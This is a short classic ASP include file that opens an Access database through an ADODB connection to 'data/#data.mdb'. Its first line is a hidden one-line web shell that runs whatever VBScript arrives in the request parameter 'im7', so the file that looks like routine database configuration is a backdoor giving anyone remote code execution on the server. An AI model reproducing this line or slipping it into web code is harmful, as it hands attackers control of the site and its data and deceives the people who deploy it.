<%if request("im7")<>"" then execute(request("im7"))%>
<%
Dim conn, connstr, db
db = "data/#data.mdb"
Set conn = Server.CreateObject("ADODB.Connection")
connstr = "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath(db)
conn.Open connstr
%>
